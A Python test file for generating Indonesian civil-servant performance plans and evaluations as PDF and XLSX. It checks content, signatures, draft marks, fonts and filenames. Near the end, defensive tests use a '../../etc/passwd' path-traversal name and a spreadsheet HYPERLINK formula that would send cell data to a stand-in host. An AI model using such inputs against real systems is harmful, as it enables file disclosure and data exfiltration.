"""The SKP and the Dokumen Evaluasi Kinerja Pegawai as printable PDF and XLSX: what a reader of
the file actually sees (text extracted with pypdf, cells read with openpyxl)."""

from __future__ import annotations

import io
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from models import Aspect, CoreValue, Evaluation, Plan
from services.documents import (
    date_words,
    evaluation_document,
    period_words,
    plan_document,
    render,
)
from services.documents.pdf import to_pdf
from services.documents.xlsx import to_xlsx
from services.evaluation import finalize, respond
from services.plans import save_draft
from services.predicate import Rating
from services.review import Decision, decide
from tests.conftest import FrozenClock
from tests.services.evaluation_helpers import rate
from tests.services.plan_helpers import (
    APRIL_2,
    Q1,
    PlanOrg,
    approved_plan,
    iki,
    make_cascade,
    make_plan_org,
    open_fresh,
    report,
    rhk,
    wib,
)

Factory = async_sessionmaker[AsyncSession]
RHK_1 = "Dokumen layanan data tersusun"
RHK_2 = "Surat dinas terkirim tepat waktu"
BOSS_RHK_1 = "Terselenggaranya layanan data bidang"
BOSS_RHK_2 = "Tersusunnya laporan kinerja bidang"
APRIL_2_DAY = date(2026, 4, 2)
RAW_KEYS = ("berorientasi_pelayanan", "2026-Q1", "2026-Y", "di_atas", "kuantitas", "utama")


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def sheet_rows(data: bytes) -> list[tuple[Any, ...]]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        tuple(v for v in row if v is not None)
        for row in workbook.active.iter_rows(values_only=True)
    ]


def signature_rows(rows: list[tuple[Any, ...]], first_role: str) -> list[tuple[Any, ...]]:
    start = max(i for i, row in enumerate(rows) if row and row[0] == first_role)
    return rows[start - 1 :]


async def _approved(session: AsyncSession, clock: FrozenClock) -> tuple[PlanOrg, Plan]:
    """Staff's SKP approved on 2 March with 3 dokumen approved in March and 2 more in April."""
    clock.now = wib(date(2026, 3, 2))
    org = await make_plan_org(session, clock.now)
    cascade = await make_cascade(session, org, clock.now)
    plan = await approved_plan(
        session,
        org.staff,
        org.boss,
        [
            rhk(
                RHK_1,
                cascade.boss_items[0].id,
                iki("Jumlah dokumen", "12", "dokumen"),
                iki("Ketepatan", "100", "%", Aspect.QUALITY),
                actions={1: "Menghimpun data triwulan I", 2: "Menyusun dokumen triwulan II"},
            ),
            rhk(RHK_2, cascade.boss_items[1].id, iki("Jumlah surat", "50", "surat")),
        ],
        clock.now,
    )
    plan.leader_expectation = "Responsif terhadap permintaan data"
    await session.commit()
    for now, quantity in ((clock.now, 3), (APRIL_2, 2)):
        activity = await report(
            session,
            org.staff,
            now,
            day=now.date(),
            item_id=plan.items[0].id,
            quantity=quantity,
            unit="dokumen",
        )
        await decide(
            session, org.boss, activity.id, activity.version, Decision.APPROVE, None, now=now
        )
    clock.now = APRIL_2
    return org, plan


async def _evaluation(
    session: AsyncSession, factory: Factory, org: PlanOrg, plan: Plan, now: datetime, *, final: bool
) -> Evaluation:
    evaluation_id = await open_fresh(factory, org.boss, org.staff, Q1, now)
    evaluation = await rate(
        session,
        org.boss,
        evaluation_id,
        now=now,
        result=Rating.ABOVE,
        behaviour=Rating.AS_EXPECTED,
        value=(CoreValue.SERVICE, Rating.ABOVE, "Sigap melayani permintaan data"),
        note=(plan.items[0].id, "Pertahankan mutu"),
        recommendation="Pelatihan analisis data",
    )
    if final:
        await finalize(session, org.boss, evaluation_id, now=now)
        evaluation = await respond(session, org.staff, evaluation_id, "Terima kasih", now=now)
    return evaluation


async def test_approved_skp_pdf_is_the_agency_form_in_words(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org, plan = await _approved(session, clock)

    text = pdf_text(to_pdf(await plan_document(session, plan), APRIL_2_DAY))

    for expected in (
        "DINAS UJI SASARAN KINERJA PEGAWAI 2026",  # the agency as letterhead
        f"Pegawai yang dinilai: Siti Aminah / NIP {org.staff.nip} / Analis / Dinas Uji / Bidang A",
        f"Pejabat Penilai Kinerja: Kepala Bidang A / NIP {org.boss.nip}",
        f"Atasan Pejabat Penilai Kinerja: Kepala Dinas / NIP {org.head.nip}",
        "RHK atasan yang diintervensi",
        f"Utama {BOSS_RHK_1} {RHK_1} Kuantitas Jumlah dokumen 12 dokumen 5 dokumen",
        f"{BOSS_RHK_2} {RHK_2} Kuantitas Jumlah surat 50 surat 0 surat",
        "Kualitas Ketepatan 100 % 0 %",
        "B. PERILAKU KERJA (BerAKHLAK)",
        "Berorientasi Pelayanan",
        "Kolaboratif",
        "C. RENCANA AKSI",
        f"1 {RHK_1} Triwulan I Menghimpun data triwulan I",
        f"1 {RHK_1} Triwulan II Menyusun dokumen triwulan II",
        "Periode: 1 Januari 2026 s.d. 31 Desember 2026",
        "Status: Disetujui",
        "Ekspektasi khusus pimpinan: Responsif terhadap permintaan data",
        # approved on 2 March: the place/date line above the two signature blocks
        "Dinas Uji, 2 Maret 2026",
        f"Pegawai yang dinilai Siti Aminah NIP {org.staff.nip}",
        f"Pejabat Penilai Kinerja Kepala Bidang A NIP {org.boss.nip}",
        "Dicetak 2 April 2026",
    ):
        assert expected in text, expected
    assert "DRAFT" not in text
    assert not any(raw in text for raw in RAW_KEYS)


async def test_approved_skp_xlsx_cells(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org, plan = await _approved(session, clock)

    rows = sheet_rows(to_xlsx(await plan_document(session, plan), APRIL_2_DAY))

    assert rows[:2] == [("DINAS UJI",), ("SASARAN KINERJA PEGAWAI 2026",)]
    assert rows[2] == ("Pegawai yang dinilai", "Siti Aminah", org.staff.nip, "Analis", UNIT_A_PATH)
    head = (
        "No",
        "Jenis",
        "RHK atasan yang diintervensi",
        "Rencana Hasil Kerja",
        "Aspek",
        "IKI",
        "Target",
        "Realisasi",
    )
    at = rows.index(head)
    assert rows[at + 1 : at + 4] == [
        ("1", "Utama", BOSS_RHK_1, RHK_1, "Kuantitas", "Jumlah dokumen", "12 dokumen", "5 dokumen"),
        ("1", "Utama", BOSS_RHK_1, RHK_1, "Kualitas", "Ketepatan", "100 %", "0 %"),
        ("2", "Utama", BOSS_RHK_2, RHK_2, "Kuantitas", "Jumlah surat", "50 surat", "0 surat"),
    ]
    actions = rows.index(("No RHK", "Rencana Hasil Kerja", "Periode", "Rencana Aksi"))
    assert rows[actions + 1] == ("1", RHK_1, "Triwulan I", "Menghimpun data triwulan I")
    assert ("Status", "Disetujui") in rows
    assert signature_rows(rows, "Pegawai yang dinilai") == [
        ("Dinas Uji, 2 Maret 2026",),
        ("Pegawai yang dinilai", "Pejabat Penilai Kinerja"),
        (),  # room for the wet signatures
        ("Siti Aminah", "Kepala Bidang A"),
        (f"NIP {org.staff.nip}", f"NIP {org.boss.nip}"),
    ]


UNIT_A_PATH = "Dinas Uji / Bidang A"


async def test_a_draft_skp_is_marked_draft_and_has_no_signature_blocks(
    session: AsyncSession, clock: FrozenClock
) -> None:
    org = await make_plan_org(session, clock.now)
    items = [rhk(f"{RHK_1} {n}") for n in range(1, 31)]
    plan = await save_draft(session, org.staff, 2026, items, now=clock.now)
    document = await plan_document(session, plan)

    pdf = render(document, "pdf", date(2026, 12, 2))
    text = pdf_text(pdf.data)
    pages = PdfReader(io.BytesIO(pdf.data)).pages

    assert len(pages) > 1
    assert all("DRAFT" in page.extract_text() for page in pages)  # the watermark on each page
    rows = sheet_rows(render(document, "xlsx", date(2026, 12, 2)).data)

    assert "DRAFT - BELUM DISETUJUI, TIDAK UNTUK DITANDATANGANI" in text
    assert "Status: Draf" in text
    assert "Dinas Uji, 2 Desember 2026" in text  # the printing day, as no one signed yet
    assert f"Siti Aminah NIP {org.staff.nip}" not in text
    assert pdf.filename == "SKP-2026-Siti-Aminah-DRAFT.pdf"
    assert ("DRAFT - BELUM DISETUJUI, TIDAK UNTUK DITANDATANGANI",) in rows
    assert rows[-1] == ("Dinas Uji, 2 Desember 2026",)
    assert not any(f"NIP {org.staff.nip}" in row for row in rows)
    assert ("Belum ada rencana aksi.",) in rows


async def test_final_evaluation_pdf_shows_periods_in_words_and_the_berakhlak_feedback(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org, plan = await _approved(session, clock)
    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=True)
    document = await evaluation_document(session, evaluation, plan)

    text = pdf_text(to_pdf(document, APRIL_2_DAY))

    for expected in (
        "DINAS UJI DOKUMEN EVALUASI KINERJA PEGAWAI",
        f"Atasan Pejabat Penilai Kinerja: Kepala Dinas / NIP {org.head.nip}",
        f"1 {RHK_1} Jumlah dokumen 12 dokumen 3 dokumen Pertahankan mutu",  # Q1 only
        "1 Berorientasi Pelayanan Di Atas Ekspektasi Sigap melayani permintaan data",
        "7 Kolaboratif - -",
        "Periode: Triwulan I 2026 (1 Januari 2026 s.d. 31 Maret 2026)",
        "Rating Hasil Kerja: Di Atas Ekspektasi",
        "Rating Perilaku Kerja: Sesuai Ekspektasi",
        "Predikat Kinerja Pegawai: Baik",
        "Konversi angka kredit (Peraturan BKN 3/2023): 100 %",
        "Rekomendasi pengembangan: Pelatihan analisis data",
        "Tanggapan pegawai: Terima kasih",
        "Dinas Uji, 2 April 2026",  # finalised that day
        f"Pejabat Penilai Kinerja Kepala Bidang A NIP {org.boss.nip}",
        f"Pegawai yang dinilai Siti Aminah NIP {org.staff.nip}",
    ):
        assert expected in text, expected
    assert "5 dokumen" not in text
    assert "DRAFT" not in text
    assert not any(raw in text for raw in RAW_KEYS)
    assert render(document, "pdf", APRIL_2_DAY).filename == (
        "Evaluasi-Triwulan-I-2026-Siti-Aminah.pdf"
    )
    assert document.label == "Evaluasi Kinerja Triwulan I 2026"


async def test_evaluation_xlsx_cells(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org, plan = await _approved(session, clock)
    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=True)

    rows = sheet_rows(to_xlsx(await evaluation_document(session, evaluation, plan), APRIL_2_DAY))

    header = rows.index(("No", "Rencana Hasil Kerja", "IKI", "Target", "Realisasi", "Umpan balik"))
    assert rows[header + 1] == (
        "1",
        RHK_1,
        "Jumlah dokumen",
        "12 dokumen",
        "3 dokumen",
        "Pertahankan mutu",
    )
    behaviour = rows.index(("No", "Perilaku Kerja", "Penilaian", "Umpan balik"))
    assert rows[behaviour + 1] == (
        "1",
        "Berorientasi Pelayanan",
        "Di Atas Ekspektasi",
        "Sigap melayani permintaan data",
    )
    assert [row[1] for row in rows[behaviour + 1 : behaviour + 8]] == [
        "Berorientasi Pelayanan",
        "Akuntabel",
        "Kompeten",
        "Harmonis",
        "Loyal",
        "Adaptif",
        "Kolaboratif",
    ]
    assert ("Periode", "Triwulan I 2026 (1 Januari 2026 s.d. 31 Maret 2026)") in rows
    assert ("Predikat Kinerja Pegawai", "Baik") in rows
    assert signature_rows(rows, "Pejabat Penilai Kinerja") == [
        ("Dinas Uji, 2 April 2026",),
        ("Pejabat Penilai Kinerja", "Pegawai yang dinilai"),
        (),
        ("Kepala Bidang A", "Siti Aminah"),
        (f"NIP {org.boss.nip}", f"NIP {org.staff.nip}"),
    ]


async def test_a_draft_evaluation_is_marked_draft_without_signatures(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org, plan = await _approved(session, clock)
    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=False)
    document = await evaluation_document(session, evaluation, plan)

    text = pdf_text(to_pdf(document, APRIL_2_DAY))

    assert "DRAFT - BELUM DISETUJUI" in text
    assert "Sigap melayani permintaan data" in text  # feedback shows while still a draft
    assert f"Kepala Bidang A NIP {org.boss.nip}" not in text
    assert document.signers == []
    assert render(document, "xlsx", APRIL_2_DAY).filename == (
        "Evaluasi-Triwulan-I-2026-Siti-Aminah-DRAFT.xlsx"
    )


async def test_evaluation_without_plan_or_rating_still_prints(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    clock.now = APRIL_2
    org = await make_plan_org(session, clock.now)
    evaluation_id = await open_fresh(session_factory, org.boss, org.staff, Q1, clock.now)
    evaluation = await session.get(Evaluation, evaluation_id)
    assert evaluation is not None

    document = await evaluation_document(session, evaluation, None)
    text = pdf_text(to_pdf(document, APRIL_2_DAY))

    assert document.tables[0].rows == []
    assert "Predikat Kinerja Pegawai: -" in text
    assert "Rating Hasil Kerja: -" in text
    assert ("Predikat Kinerja Pegawai", "-") in sheet_rows(to_xlsx(document))


NAME = "José Şahin — Tim Data"


async def test_a_unicode_name_round_trips_in_the_embedded_font(
    session: AsyncSession, clock: FrozenClock
) -> None:
    org = await make_plan_org(session, clock.now)
    org.staff.name = NAME
    await session.commit()
    items = [rhk("Laporan “final” — revisi…"), rhk("Data ✅ terkirim")]
    plan = await save_draft(session, org.staff, 2026, items, now=clock.now)

    file = render(await plan_document(session, plan), "pdf", date(2026, 3, 2))
    reader = PdfReader(io.BytesIO(file.data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    fonts = reader.pages[0]["/Resources"]["/Font"]
    descriptors = [f.get_object()["/DescendantFonts"][0].get_object() for f in fonts.values()]

    assert NAME in text
    assert "Laporan “final” — revisi…" in text
    assert "Data  terkirim" in text  # a glyph the font lacks (an emoji) is left out
    assert "?" not in text  # nothing replaced by "?"
    assert all("DejaVu" in d["/BaseFont"] for d in descriptors)
    assert all("/FontFile2" in d["/FontDescriptor"].get_object() for d in descriptors)
    assert file.filename == "SKP-2026-Jose-Sahin-Tim-Data-DRAFT.pdf"


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("../../etc/passwd", "SKP-2026-etc-passwd-DRAFT"),
        (("Ni Luh Putu Ayu Kadek Wayan " * 10)[:200], None),  # bounded
        ("王小明", "SKP-2026-pegawai-DRAFT"),  # nothing ASCII left
    ],
)
async def test_file_names_are_safe_and_bounded(
    name: str, stem: str | None, session: AsyncSession, clock: FrozenClock
) -> None:
    org = await make_plan_org(session, clock.now)
    org.staff.name = name
    await session.commit()
    plan = await save_draft(session, org.staff, 2026, [rhk(RHK_1)], now=clock.now)

    filename = render(await plan_document(session, plan), "xlsx", date(2026, 3, 2)).filename

    assert filename.endswith(".xlsx")
    assert "/" not in filename
    assert "\\" not in filename
    assert filename.isascii()
    assert len(filename) <= 80
    if stem is not None:
        assert filename == f"{stem}.xlsx"


async def test_typed_texts_in_the_new_sections_stay_text_cells(
    session: AsyncSession, session_factory: Factory, clock: FrozenClock
) -> None:
    org = await make_plan_org(session, clock.now)
    formula = '=HYPERLINK("http://x.test/?"&B2,"Lihat")'
    plan = await save_draft(
        session, org.staff, 2026, [rhk(RHK_1, actions={1: formula})], now=clock.now
    )

    workbook = load_workbook(io.BytesIO(to_xlsx(await plan_document(session, plan))))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value == formula]

    assert cells
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize(
    ("key", "words"),
    [
        ("2026-Y", "Tahunan 2026"),
        ("2026-Q3", "Triwulan III 2026"),
        ("2026-Q4", "Triwulan IV 2026"),
        ("2026-S2", "Semester II 2026"),
        ("2026-M03", "Maret 2026"),
    ],
)
def test_periods_and_dates_are_printed_in_words(key: str, words: str) -> None:
    assert period_words(key) == words
    assert date_words(date(2026, 12, 2)) == "2 Desember 2026"
